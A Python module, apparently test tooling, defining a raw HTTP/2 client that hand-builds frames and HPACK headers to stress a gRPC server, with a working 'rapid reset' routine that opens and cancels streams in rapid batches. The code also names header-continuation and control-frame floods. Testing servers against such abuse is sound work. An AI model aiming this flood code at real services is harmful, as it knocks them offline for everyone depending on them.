"""A bare HTTP/2 client that writes frames itself, for what no well-behaved gRPC client sends: streams opened and
reset at once (the "rapid reset"), endless header continuations, floods of control frames."""

from __future__ import annotations

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _integer(value: int, prefix_bits: int) -> bytes:  # HPACK integer (RFC 7541 5.1)
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name: bytes, value: bytes) -> bytes:
    """A header field as an HPACK literal without indexing, new name, no Huffman coding."""
    return b"\x00" + _integer(len(name), 7) + name + _integer(len(value), 7) + value


def grpc_headers(method: str = "/grpc.health.v1.Health/Check") -> bytes:
    return b"".join(literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", method.encode()), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


class RawConnection:
    def __init__(self, port: int, host: str = "127.0.0.1"):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.next_stream = 1
        self.received = 0
        # whatever the server answers is read (and dropped) as it comes, so its replies never wait on us
        self._reader = threading.Thread(target=self._read_all, daemon=True)
        self._reader.start()

    def _read_all(self) -> None:
        try:
            while chunk := self.sock.recv(1 << 20):
                self.received += len(chunk)
        except OSError:
            pass

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def rapid_reset(self, seconds: float, batch: int = 200) -> int:
        """Opens a stream and resets it at once, over and over, for `seconds`; returns how many. Stops early, without
        raising, when the server closes the connection."""
        opened = 0
        ends = time.monotonic() + seconds
        headers = grpc_headers()
        cancel = struct.pack(">I", CANCEL)
        try:
            while time.monotonic() < ends and self.next_stream < 2**31 - 2 * batch:
                streams = range(self.next_stream, self.next_stream + 2 * batch, 2)
                self.send(b"".join(frame(HEADERS, END_HEADERS, s, headers) + frame(RST_STREAM, 0, s, cancel)
                                   for s in streams))
                self.next_stream += 2 * batch
                opened += batch
        except OSError:
            pass
        return opened

    def close(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self._reader.join(5)
